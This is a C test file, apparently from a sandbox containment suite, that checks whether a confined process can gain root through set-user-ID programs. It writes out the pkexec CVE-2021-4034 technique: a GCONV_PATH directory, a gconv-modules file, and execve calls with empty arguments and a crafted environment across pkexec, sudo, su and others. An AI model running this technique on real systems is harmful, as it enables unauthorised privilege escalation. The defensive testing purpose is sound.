/* Has set-user-ID programs load a module of character sets of its own: pkexec did
 * so when it was started without arguments (CVE-2021-4034). What must stop it: a
 * program that the run starts has no more rights than the run. */
#include "attack.h"
#include <sys/stat.h>

static const char *const programs[] = {"/usr/bin/pkexec", "/usr/bin/su", "/usr/bin/sudo", "/usr/bin/mount",
	"/usr/bin/passwd", "/usr/bin/chsh", "/usr/bin/newgrp",
	"/usr/bin/gpasswd", "/usr/lib/dbus-1.0/dbus-daemon-launch-helper"};

int main(void)
{
	char *const none[] = {NULL};
	char *const env[] = {"GCONV_PATH=.", "LOCPATH=.", "NLSPATH=./%N", "TZDIR=.", "CHARSET=MINE", "PATH=GCONV_PATH=.",
		"SHELL=mine", "LANG=mine", NULL};
	struct stat s;
	mkdir("GCONV_PATH=.", 0777);
	mkdir("mine", 0777);
	int fd = open("gconv-modules", O_CREAT | O_WRONLY, 0666);
	dprintf(fd, "module UTF-8// MINE// mine 2\n");
	close(fd);
	for (size_t i = 0; i < sizeof programs / sizeof *programs; i++) {
		pid_t pid = fork();
		if (pid == 0) {
			execve(programs[i], none, env);
			_exit(0);
		}
		waitpid(pid, NULL, 0);
		/* A copy with the bit, should the box not forbid that. */
		if (symlink(programs[i], "link") == 0)
			unlink("link");
	}
	if (geteuid() == 0 || stat("rooted", &s) == 0)
		broke("root");
	held("no set-user-ID program helps");
}
